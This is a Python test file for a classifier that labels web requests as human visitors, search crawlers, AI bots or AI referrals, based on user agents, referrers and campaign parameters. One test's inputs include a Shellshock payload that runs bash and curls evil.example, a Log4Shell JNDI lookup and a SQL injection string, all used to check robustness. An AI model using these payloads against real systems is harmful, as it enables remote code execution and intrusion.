"""Who made a request: the order in which signs are believed, and the traps on the way."""

import re
from itertools import chain

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from data.rules.bots import LONGEST_USER_AGENT, Automata, readable_user_agent
from data.rules.classifier import Classifier, Request
from data.rules.devices import People
from data.rules.referrers import campaign_of
from data.rules.signs import PERSON
from data.rules.tables import Agent, load
from data.visits import (
    AI_CATEGORIES,
    BOT_CATEGORIES,
    CATEGORY_OF_KIND,
    CONFIDENCE_SCORES,
    DEVICE_TYPES,
    REFERRER_TYPES,
    Classification,
)
from tests.corpus import NAMES, labelled

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
)
IMESSAGE = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 "
    "Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0"
)
SAFARI = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1"
)
GPTBOT = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.2; +https://openai.com/gptbot"
CHATGPT_USER = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot"
)
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
AI_REFERRER, AI_QUERY = "https://chatgpt.com/", "utm_source=chatgpt.com"
HUMAN = ("human", None, None, None, None, None, None)


@pytest.fixture(scope="module")
def told(classifier):
    def classified(user_agent=CHROME, method="GET", referrer="", query=""):
        return classifier.classify(Request.logged(user_agent, method, referrer, query))

    return classified


def android(device, version="10", mobile="Mobile "):
    return (
        f"Mozilla/5.0 (Linux; Android {version}; {device}) AppleWebKit/537.36 (KHTML, like Gecko) "
        f"Chrome/83.0.4103.106 {mobile}Safari/537.36"
    )


# The order of decision


def test_a_browser_without_any_sign_is_a_person(told):
    assert told() == Classification(*HUMAN, "desktop", "Windows", "Chrome")
    assert told(SAFARI) == Classification(*HUMAN, "mobile", "iOS", "Mobile Safari")


@pytest.mark.parametrize("query", ["", AI_QUERY])
@pytest.mark.parametrize("referrer", ["", AI_REFERRER, "https://www.google.com/"])
@pytest.mark.parametrize(
    ("user_agent", "kind", "ai_source"),
    [
        (GPTBOT, "training", "ChatGPT"),
        (CHATGPT_USER, "assistant_fetch", "ChatGPT"),
        (GOOGLEBOT, "search", None),
        ("curl/8.5.0", "library", None),
        ("python-requests/2.31.0", "library", None),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "preview", None),
    ],
)
def test_an_automaton_stays_what_it_is_whatever_link_it_follows(told, user_agent, kind, ai_source, referrer, query):
    found = told(user_agent, referrer=referrer, query=query)
    assert (found.agent_kind, found.ai_source) == (kind, ai_source)
    assert found.bot_category == CATEGORY_OF_KIND[kind]
    assert found.device_type == "bot"


@pytest.mark.parametrize("method", ["HEAD", "OPTIONS", "PROPFIND", "PUT", "DELETE", "CONNECT", "PRI", ""])
@pytest.mark.parametrize("referrer", ["", AI_REFERRER])
def test_a_method_no_browser_opens_a_page_with_is_no_person(told, method, referrer):
    found = told(method=method, referrer=referrer, query=AI_QUERY if referrer else "")
    assert (found.bot_category, found.agent_kind, found.device_type) == ("other_bot", "other", "bot")
    assert (found.confidence, found.detection_method) == ("low", "heuristic")


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_people_get_and_post(told, method):
    assert told(method=method).bot_category == "human"


@pytest.mark.parametrize("method", ["HEAD", "OPTIONS"])
def test_a_known_agent_is_known_by_any_method(told, method):
    assert told(GPTBOT, method).agent == "GPTBot"


@pytest.mark.parametrize("user_agent", ["", "-", " ", '""', '"-"', "\t", "''"])
def test_nobody_without_a_user_agent_is_a_person(told, user_agent):
    found = told(user_agent, referrer=AI_REFERRER, query=AI_QUERY)
    assert found == Classification("other_bot", "other", None, None, None, "low", "heuristic", "bot", None, None)


def test_a_person_sent_by_an_ai_product_is_a_referral_and_keeps_the_device(told):
    assert told(SAFARI, referrer="https://claude.ai/chat") == Classification(
        "ai_referral", "referral", "Claude", None, None, "medium", "referrer", "mobile", "iOS", "Mobile Safari"
    )


@pytest.mark.parametrize(
    ("referrer", "query", "expected"),
    [
        (AI_REFERRER, "", ("ai_referral", "ChatGPT", "medium", "referrer")),
        ("", AI_QUERY, ("ai_referral", "ChatGPT", "medium", "utm")),
        (AI_REFERRER, AI_QUERY, ("ai_referral", "ChatGPT", "high", "utm")),
        ("https://claude.ai/", AI_QUERY, ("ai_referral", "ChatGPT", "high", "utm")),
        ("https://www.google.com/", AI_QUERY, ("ai_referral", "ChatGPT", "medium", "utm")),
        ("", "utm_source=chatgpt", ("ai_referral", "ChatGPT", "low", "utm")),
        (AI_REFERRER, "utm_source=chatgpt", ("ai_referral", "ChatGPT", "high", "utm")),
        (AI_REFERRER, "utm_source=newsletter", ("ai_referral", "ChatGPT", "medium", "referrer")),
        ("", "utm_source=newsletter", ("human", None, None, None)),
        ("https://www.google.com/search?q=chatgpt.com", "", ("human", None, None, None)),
        ("https://www.bing.com/", "utm_medium=chatgpt.com", ("human", None, None, None)),
    ],
)
def test_a_campaign_is_believed_before_a_referrer_and_both_are_surer(told, referrer, query, expected):
    found = told(referrer=referrer, query=query)
    assert (found.bot_category, found.ai_source, found.confidence, found.detection_method) == expected


@pytest.mark.parametrize(
    ("source", "ai_source"),
    [
        ("ChatGPT.com", "ChatGPT"),
        ("www.chatgpt.com", "ChatGPT"),
        ("%63hatgpt.com", "ChatGPT"),
        ("+chatgpt.com+", "ChatGPT"),
        ("openai", "ChatGPT"),
        ("perplexity", "Perplexity"),
        ("claude.ai", "Claude"),
        ("www.perplexity.ai", "Perplexity"),
        ("copilot.microsoft.com", "Copilot"),
        ("chatgpt.com.evil.example", None),
        ("notchatgpt.com", None),
        ("chatgpt-newsletter", None),
        ("google", None),
        ("kagi.com", None),
        ("", None),
    ],
)
def test_a_campaign_names_an_ai_product_exactly_or_not_at_all(told, source, ai_source):
    assert told(query=f"a=b&utm_source={source}&c=d").ai_source == ai_source


@pytest.mark.parametrize(
    "referrer",
    [
        "https://chatgpt.com.evil.example/",
        "https://notchatgpt.com/",
        "https://www.google.com/search?q=chatgpt.com",
        "javascript:alert('https://chatgpt.com/')",
        "http://[::1/chatgpt.com",
        "https://chatgpt.com@evil.example/",
        "https://duckduckgo.com/?q=claude.ai",
        "https://x.com/",
        "https://docs.google.com/",
        "-",
    ],
)
def test_a_referrer_that_only_looks_like_an_ai_product_sends_people(told, referrer):
    assert told(referrer=referrer).bot_category == "human"


@pytest.mark.parametrize(
    ("referrer", "expected"),
    [
        ("", (None, "direct")),
        ("-", (None, "direct")),
        ("javascript:void(0)", (None, "direct")),
        ("https://WWW.Google.com:443/search?q=x", ("www.google.com", "search")),
        ("https://somewhere.example/page", ("somewhere.example", "other")),
        ("https://claude.ai./", ("claude.ai", "ai")),
    ],
)
def test_the_origin_names_the_host_and_what_it_is(classifier, referrer, expected):
    origin = classifier.origin(Request.logged(CHROME, "GET", referrer, ""))
    assert (origin.referrer, origin.referrer_type) == expected
    assert origin.utm == (None,) * 5


# Campaigns


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", (None, None, None, None, None)),
        ("a=1&b=2", (None, None, None, None, None)),
        (
            "utm_source=s&utm_medium=m&utm_campaign=c&utm_term=t&utm_content=n",
            ("s", "m", "c", "t", "n"),
        ),
        ("utm_source=a&utm_source=b", ("a", None, None, None, None)),
        ("utm_campaign=a+b%20c%C3%A9", (None, None, "a b cé", None, None)),
        ("utm_source=%20%20", (None, None, None, None, None)),
        ("utm_source=%ff%fe", ("\ufffd\ufffd", None, None, None, None)),
        ("utm_source", (None, None, None, None, None)),
        ("utm_source=a;utm_medium=b", ("a;utm_medium=b", None, None, None, None)),
        ("UTM_SOURCE=a&xutm_source=b", (None, None, None, None, None)),
        ("utm_source==a", ("=a", None, None, None, None)),
        ("utm_source=%", ("%", None, None, None, None)),
    ],
)
def test_the_words_of_a_campaign_are_read_from_the_query(query, expected):
    assert campaign_of(query) == expected


def test_the_words_of_a_campaign_are_cut_where_they_are_too_long():
    assert campaign_of("utm_source=" + "x" * 5000)[0] == "x" * 256


def test_a_query_of_very_many_words_is_read_at_its_beginning_only():
    assert campaign_of("a&" * 50_000 + "utm_source=late") == (None,) * 5


# Agents, and what only looks like one


@pytest.mark.parametrize(
    ("user_agent", "category", "agent"),
    [
        (GPTBOT, "ai_training", "GPTBot"),
        (GPTBOT.lower(), "ai_training", "GPTBot"),
        ("GPTBot", "ai_training", "GPTBot"),
        (CHATGPT_USER, "ai_assistant", "ChatGPT-User"),
        ("Claude-User (claude-code/2.1.260; +https://support.anthropic.com/)", "ai_coding_agent", "Claude Code"),
        ("Mozilla/5.0 (compatible; Claude-User/1.0; +Claude-User@anthropic.com)", "ai_assistant", "Claude-User"),
        (" Mozilla/5.0 (KHTML, like Gecko; compatible; Amzn-User/0.1) Chrome/119.0", "ai_assistant", "Amzn-User"),
        ("Mozilla/5.0 (compatible; PerplexityBot/1.0; +https://perplexity.ai/bot)", "ai_assistant", "PerplexityBot"),
        ("CCBot/2.0 (https://commoncrawl.org/faq/)", "ai_training", "CCBot"),
        ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "search_crawler", "bingbot"),
        (GOOGLEBOT, "search_crawler", "Googlebot"),
        (android("Nexus 5X", "6.0.1") + f" {GOOGLEBOT[12:]}", "search_crawler", "Googlebot"),
    ],
)
def test_agents_are_known_by_their_tokens(told, user_agent, category, agent):
    found = told(user_agent)
    assert (found.bot_category, found.agent) == (category, agent)


@pytest.mark.parametrize(
    "user_agent",
    [
        "MyGPTBotClone/1.0",
        "ShowyouBot/1.0",
        "BaiduMobaider",
        "Claude-Userland/1.0",
        "LinkAider/1.0",
        "Goose/3.1.6",
        "WordPress/6.4; https://gptbot.example.com",
        "WordPress/6.4; https://example.com/claude-user",
        "Mozilla/5.0 (compatible; Exabot/3.0; +http://www.exabot.com/go/robot)",
    ],
)
def test_a_word_within_a_word_is_no_agent_of_an_ai_product(told, user_agent):
    found = told(user_agent)
    assert found.bot_category not in (*AI_CATEGORIES, "human")
    assert found.ai_source is None


@pytest.mark.parametrize(
    "user_agent",
    [
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        IMESSAGE,
        "WhatsApp/2.23.20.0 A",
        "TelegramBot (like TwitterBot)",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5",
        "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    ],
)
def test_link_previews_are_no_people(told, user_agent):
    assert told(user_agent, referrer=AI_REFERRER).agent_kind == "preview"


@pytest.mark.parametrize(
    "user_agent",
    [
        "Mozilla/5.0",
        "Mozilla/5.0 ()",
        "curl/8.5.0",
        "Java/17.0.2",
        "okhttp/4.9.0",
        "some-script",
        "x",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0 Safari/537.36",
        "Mozilla/5.0 (compatible; SomethingNewBot/0.1)",
        "Mozilla/5.0 (compatible; newthing; +https://newthing.example/about)",
        "Mozilla/5.0 (Windows NT 10.0) MyCrawler",
        "() { :; }; /bin/bash -c 'curl http://evil.example'",
        "${jndi:ldap://evil.example/a}",
        "' OR 1=1 --",
    ],
)
def test_what_no_browser_says_is_no_person(told, user_agent):
    assert told(user_agent).bot_category == "other_bot"


@pytest.mark.parametrize(
    "user_agent",
    [
        android("CUBOT DINOSAUR Build/MRA58K", "6.0"),
        android("CUBOT_P30", "9"),
        android("CUBOT"),
        android("M bot 551 Build/LMY47D", "5.1"),
        android("M bot 60", "7.0"),
        android("XBOT_Senior Build/KOT49H", "4.4.2"),
        android("C Bot Tab 70 Build/MRA58K", "6.0", mobile=""),
        android("VR BOT 552 Build/NHG47K; wv", "7.1.2"),
        android("Spider 8", "8.1"),
        android("CPH2609 Build/AP3A.240617.008; wv", "15"),
        android("HTC Butterfly Build/JRO03C", "4.1"),
        android("ViewSonic-V450 Build/LMY47D", "5.1"),
        android("Gemini 4G Build/LMY47D", "5.1"),
        android("Nexa Atlas"),
        android("Discovery Build/LMY47D", "5.1"),
        SAFARI.replace(" Safari", " GSA/317.0.634488990 Safari"),
        SAFARI.replace("Version/17.5 Mobile/15E148 Safari/604.1", "Mobile/15E148 [FBAN/FBIOS;FBAV/465.0.1.41.103]"),
        android("SM-G991B; wv") + " Instagram 302.0.0.34.111 Android (33/13; 480dpi; 1080x2176; samsung; SM-G991B)",
        CHROME + " SE 2.X MetaSr 1.0 Sogou",
        CHROME + " Edg/131.0.0.0",
        CHROME + " OPR/116.0.0.0",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
        "Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18",
        "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8",
        "w3m/0.5.3+git20230121",
    ],
)
def test_people_with_odd_devices_and_browsers_are_people(told, user_agent):
    assert told(user_agent)[:7] == HUMAN


def in_an_editor(name):
    return CHROME.replace("Chrome/", f"{name} Chrome/").replace(" Safari", " Electron/34.5.1 Safari")


def test_the_browser_inside_an_editor_of_agents_may_be_an_agent(told):
    found = told(in_an_editor("Cursor/3.1.0"))
    assert (found.bot_category, found.ai_source, found.confidence) == ("ai_coding_agent", "Cursor", "low")


def test_the_browser_inside_another_editor_is_a_person(told):
    assert told(in_an_editor("Code/1.100.0"))[:7] == HUMAN


# Devices

PEOPLE = People()


@pytest.mark.parametrize(
    ("user_agent", "device_type"),
    [
        (CHROME, "desktop"),
        (SAFARI, "mobile"),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/17.5 Safari/605.1.15",
            "desktop",
        ),
        ("Mozilla/5.0 (iPad; CPU OS 12_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1", "tablet"),
        ("Mozilla/5.0 (iPod touch; CPU iPhone OS 12_5 like Mac OS X) Mobile/15E148", "mobile"),
        (android("Pixel 8"), "mobile"),
        (android("K"), "mobile"),
        (android("SM-T510", mobile=""), "tablet"),
        (android("Lenovo Tablet"), "tablet"),
        (
            "Mozilla/5.0 (Linux; Android 9; KFTRWI) AppleWebKit/537.36 Silk/96.3 like Chrome/96.0 Safari/537.36",
            "tablet",
        ),
        ("Mozilla/5.0 (PlayBook; U; RIM Tablet OS 2.1.0) AppleWebKit/536.2+ Version/7.2.1.0 Safari/536.2+", "tablet"),
        ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; Tablet PC 2.0)", "desktop"),
        ("Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 Chrome/76.0 TV Safari/537.36", "desktop"),
        ("Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 Chrome/94.0 Safari/537.36", "desktop"),
        (android("BRAVIA 4K UR2", mobile=""), "desktop"),
        (android("AFTMM Build/NS6265; wv", "7.1.2"), "desktop"),
        ("Mozilla/5.0 (X11; Linux armv7l) AppleWebKit/537.36 Chrome/90.0 Safari/537.36 CrKey/1.54", "desktop"),
        ("Mozilla/5.0 (Linux; U; Android 4.0; Google TV) AppleWebKit/534.30", "desktop"),
        ("Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 Version/13.0 Safari/605.1.15", "desktop"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) Edge/18.19041", "desktop"),
        ("Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/606.4 NF/6.0.1 NintendoBrowser/5.1", "desktop"),
        ("Mozilla/5.0 (Mobile; Nokia_2720; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.2.1", "mobile"),
        ("Opera/9.80 (J2ME/MIDP; Opera Mini/9.80; U; en) Presto/2.5.25 Version/10.54", "mobile"),
        ("BlackBerry9700/5.0.0.862 Profile/MIDP-2.1 Configuration/CLDC-1.1", "mobile"),
        ("Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 Chrome/131.0 Safari/537.36", "desktop"),
        ("", "desktop"),
    ],
)
def test_devices_are_desktops_phones_or_tablets(user_agent, device_type):
    assert PEOPLE.device_type(user_agent) == device_type


# User agents as servers write them


@pytest.mark.parametrize(
    ("logged", "readable"),
    [
        (CHROME, CHROME),
        ("", ""),
        ("-", ""),
        ("  -  ", ""),
        ('"-"', ""),
        (f" {CHROME} ", CHROME),
        (f'"{CHROME}"', CHROME),
        (rf"\x22{CHROME}\x22", CHROME),
        (rf"\"{CHROME}\"", CHROME),
        (r"say \"hi\" twice", 'say "hi" twice'),
        (r"say \x22hi\x22 twice", 'say "hi" twice'),
        (r"back\\slash", "back\\slash"),
        (r"not an escape: \\x22", r"not an escape: \x22"),
        (r"\x5Cx", "\\x"),
        (r"unknown \n \q \xZZ \x4", r"unknown \n \q \xZZ \x4"),
        ("Mozilla/5.0%20(X11;%20Linux%20x86_64)%20Firefox/132.0", "Mozilla/5.0 (X11; Linux x86_64) Firefox/132.0"),
        ("100%20 with spaces", "100%20 with spaces"),
        ("50%", "50%"),
        ("a\0b", "a\0b"),
        ("Яндекс 浏览器", "Яндекс 浏览器"),
    ],
)
def test_a_user_agent_is_read_as_it_was_sent(logged, readable):
    assert readable_user_agent(logged) == readable


def test_escaped_bytes_are_the_letters_they_encode():
    assert readable_user_agent(r"Caf\xc3\xa9 \xD0\x9F\xd1\x80") == "Café Пр"
    assert readable_user_agent(r"\xff\xfe") != ""


@pytest.mark.parametrize("letter", ["x", "Ж", r"\x22", r"\\", "%20", "(", "\0", "🙂"])
def test_a_user_agent_is_cut_where_it_is_too_long(letter):
    assert len(readable_user_agent("a" + letter * 8000)) <= LONGEST_USER_AGENT
    assert len(readable_user_agent("a" * 8000)) == LONGEST_USER_AGENT


@given(st.text(max_size=60) | st.text('\\x2"- %0a', max_size=60))
def test_a_readable_user_agent_has_no_quotes_or_blanks_around(logged):
    readable = readable_user_agent(logged)
    assert readable == readable.strip(" \t\"'")
    assert readable != "-"
    assert len(readable) <= LONGEST_USER_AGENT


# Anything at all


HOSTILE = [
    "(" * 8000,
    "((((" * 500 + "Mozilla/5.0" + "))))" * 500,
    "Mozilla/5.0 " + "(compatible; " * 1000,
    "Mozilla/5.0 (" + "a" * 8000,
    "Mozilla/5.0 " + "Android " * 1000,
    "Mozilla/5.0 (Linux; Android 10; " + "; " * 4000,
    "\0" * 8000,
    "Mozilla/5.0 \0\x01\x02\x7f",
    "\ufffd" * 8000,
    "\u017f" * 2000,  # longer or shorter in another case
    "\u0130" * 2000,
    "Mozilla/5.0 " + "\\x" * 4000,
    "Mozilla/5.0 " + "%20" * 4000,
    "\u202e\u0000\U0010ffff",
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_strings_are_no_error(told, text):
    check(told(text, text, text, f"utm_source={text}"))
    check(told(CHROME + text, "GET", "https://chatgpt.com/" + text, f"utm_campaign={text}"))


def check(found):
    """Whether the values of a classification fit each other."""
    assert found.bot_category in BOT_CATEGORIES
    person = found.bot_category in {"human", "ai_referral"}
    assert found.bot_category == ("human" if found.agent_kind is None else CATEGORY_OF_KIND[found.agent_kind])
    assert (found.ai_source is not None) == (found.bot_category in AI_CATEGORIES)
    assert (found.confidence is None) == (found.detection_method is None) == (found.bot_category == "human")
    assert found.confidence is None or found.confidence in CONFIDENCE_SCORES
    assert found.device_type in DEVICE_TYPES
    assert (found.device_type == "bot") == (not person)
    if person:
        assert (found.agent, found.operator) == (None, None)
    else:
        assert (found.operating_system, found.browser) == (None, None)


WORDS = st.sampled_from(
    [row.token for row in load(Agent, "agents")] + [CHROME, SAFARI, "Mozilla/5.0 ", "bot", "; ", "("]
)
USER_AGENTS = st.text(max_size=60) | st.lists(WORDS | st.text(max_size=8), max_size=5).map("".join)
METHODS = st.sampled_from(["GET", "POST", "HEAD", "OPTIONS", ""]) | st.text(max_size=8)
REFERRERS = st.text(max_size=60) | st.sampled_from([AI_REFERRER, "https://google.com/"]).flatmap(
    lambda host: st.text(max_size=10).map(lambda rest: host + rest)
)
QUERIES = st.text(max_size=60) | st.text(max_size=30).map(lambda value: f"utm_source={value}") | st.just(AI_QUERY)


@given(user_agent=USER_AGENTS, method=METHODS, referrer=REFERRERS, query=QUERIES)
@settings(max_examples=400, deadline=None)
def test_any_request_gets_a_classification_whose_values_fit(classifier, user_agent, method, referrer, query):
    request = Request.logged(user_agent, method, referrer, query)
    check(classifier.classify(request))
    assert classifier.classify(request) == classifier.classify(request)
    origin = classifier.origin(request)
    assert origin.referrer_type in REFERRER_TYPES
    assert (origin.referrer is None) == (origin.referrer_type == "direct")
    assert all(word is None or 0 < len(word) <= 256 for word in origin.utm)


@pytest.mark.parametrize("text", ["\ud800", CHROME + "\udcff"])
def test_lone_surrogates_are_no_error(told, classifier, text):
    check(told(text))
    check(told(CHROME, "GET", f"https://{text}/", f"utm_source={text}"))
    classifier.origin(Request.logged(text, "GET", text, f"utm_source={text}"))


def test_the_order_of_questions_changes_no_answer(told):
    agents = [GPTBOT, CHROME, GOOGLEBOT, "curl/8.5.0", CHATGPT_USER, SAFARI]
    assert [told(agent) for agent in agents] == [told(agent) for agent in reversed(agents)][::-1]


# Builds of a version: rules look at none of them, so an answer for one stands for all


BUILD = re.compile(r"((?:Chrome|CriOS|Edg|EdgA|OPR)/)\d+\.0\.\d+\.\d+")
BUILDS = ("9.0.1.2", "18.0.1025.133", "120.0.6099.109", "145.0.360.11", "199.0.9999.999")
FAMILIAR = list(
    dict.fromkeys(row["user_agent"] for row in chain.from_iterable(map(labelled, NAMES)) if "user_agent" in row)
)


def test_a_build_that_was_never_seen_is_told_as_if_all_of_it_were_looked_at():
    automata, people, classifier = Automata(), People(), Classifier()
    made_up = {BUILD.sub(rf"\g<1>{build}", agent) for agent in FAMILIAR for build in BUILDS if BUILD.search(agent)}
    assert len(made_up) > 1000
    for agent in made_up | set(FAMILIAR):
        sign = next(automata.signs(agent), None)
        expected = sign.says if sign else Classification(*PERSON[:7], *people.person(agent))
        assert classifier.classify_user_agent(agent) == expected, agent
